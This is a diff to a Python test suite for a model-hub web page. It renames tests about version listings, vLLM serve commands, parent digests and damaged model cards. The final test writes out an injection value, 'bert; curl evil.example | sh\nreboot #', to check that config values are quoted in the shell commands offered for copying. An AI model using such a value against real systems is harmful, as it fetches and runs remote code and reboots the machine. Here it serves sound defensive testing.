@@ -93,7 +93,7 @@ def test_the_address_of_a_commit_leads_to_its_version(pages, hub, ner):
         assert (answer.status_code, answer.headers["Location"]) == (302, f"/{ner}/tree/v1")
 
 
-def test_versions_show_aliases_what_was_removed_and_every_move(pages, hub, ner, push):
+def test_versions_show_aliases_removals_and_every_move(pages, hub, ner, push):
     push(ner, value=3.0, message="a mistake")
     remove(hub.registry, ner, "v3", message="trained on the test set")
     text = pages.get(f"/{ner}/versions").text
@@ -155,12 +155,12 @@ def test_only_commands_that_apply_are_offered(pages, push, content, peft, vllm):
     assert any(line.startswith("vllm serve bert-tiny --enable-lora") for line in found) == vllm
 
 
-def test_vllm_is_told_of_a_large_rank(pages, push):
+def test_the_vllm_command_sets_a_large_rank(pages, push):
     push("acme/ner", tensors=WITHOUT_HEAD, lora_r=24)
     assert any(line.endswith("--max-lora-rank 32") for line in commands(pages.get("/acme/ner")))
 
 
-def test_what_it_was_made_from_is_told(pages, push):
+def test_the_parents_of_a_delta_are_shown(pages, push):
     parent = {"relation": "resumed", "digest": f"sha256:{'a' * 64}", "name": "acme/ner"}
     push("acme/next", parents=[parent])
     text = pages.get("/acme/next").text
@@ -177,7 +177,7 @@ def test_a_huge_card_is_not_rendered_but_can_be_downloaded(pages, push):
     assert len(pages.get("/acme/huge/resolve/v1/README.md").content) > card.LARGEST
 
 
-def test_a_damaged_card_is_told_in_a_sentence_and_the_rest_is_shown(pages, hub, ner, registry):
+def test_a_damaged_card_is_reported_and_the_rest_is_shown(pages, hub, ner, registry):
     entry = next(file for file in registry.resolve(Reference.parse(ner)).manifest.files if file.path == "README.md")
     path = registry.store.root / object_key(entry.sha256)
     path.chmod(0o644)
@@ -253,7 +253,7 @@ def test_strange_configs_of_files_of_any_kind_are_no_failure(pages, registry, tm
     assert pages.get("/-/compare?left=acme/odd&right=acme/odd@v1").status_code == 200
 
 
-def test_a_command_to_copy_runs_nothing_that_somebody_wrote_into_a_config(pages, push):
+def test_values_from_a_config_are_quoted_in_commands(pages, push):
     written = "bert; curl evil.example | sh\nreboot #"
     push("acme/ner", backbone=written, method="layer_norm")
     found = [shlex.split(line) for line in commands(pages.get("/acme/ner")) if "evil" in line]
